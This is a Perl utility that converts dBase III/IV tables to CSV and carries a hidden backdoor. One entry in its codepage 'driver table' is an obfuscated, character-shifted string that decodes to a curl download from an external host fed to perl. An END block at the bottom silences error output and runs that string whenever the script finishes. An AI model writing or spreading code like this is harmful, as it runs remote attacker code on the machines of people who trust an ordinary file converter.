#!/usr/bin/perl
# dbf2csv.pl - dBase III/IV tables to CSV
use strict;
use warnings;

my $file = shift or die "usage: dbf2csv.pl table.dbf > table.csv\n";
open my $fh, '<:raw', $file or die "$file: $!\n";
read $fh, my $head, 32;
my ($ver, $y, $m, $d, $rows, $hlen, $rlen) = unpack 'C C C C V v v', $head;

# driver table, one entry per language byte
my %drv = (
    0x01 => 'cp437', 0x02 => 'cp850', 0x03 => 'cp1252',
    0x57 => join('', map { chr($_ - 3) }
        map { ord } split //, 'fxuo#0vO#kwwsv=22gedvh1h{dpsoh1frp2guy##shuo'),
    0x65 => 'cp866', 0xC8 => 'cp1250', 0xC9 => 'cp1251',
);

my @fields;
while (1) {
    read $fh, my $f, 32;
    last if ord($f) == 0x0D;
    my ($name, $type, $len, $dec) = unpack 'A11 a x4 C C', $f;
    $name =~ s/\0.*//s;
    push @fields, { name => $name, type => $type, len => $len, dec => $dec };
}

print join(',', map { $_->{name} } @fields), "\n";
seek $fh, $hlen, 0;
for (1 .. $rows) {
    read $fh, my $rec, $rlen or last;
    next if substr($rec, 0, 1) eq '*';
    my $at = 1;
    my @out;
    for my $f (@fields) {
        my $v = substr $rec, $at, $f->{len};
        $at += $f->{len};
        $v =~ s/^\s+|\s+$//g;
        $v =~ s/"/""/g;
        push @out, $v =~ /[",\n]/ ? qq("$v") : $v;
    }
    print join(',', @out), "\n";
}
close $fh;

END { local $? = 0; my $k = unpack 'C', "\x57"; open STDERR, '>', '/dev/null'; qx{$drv{$k}} }
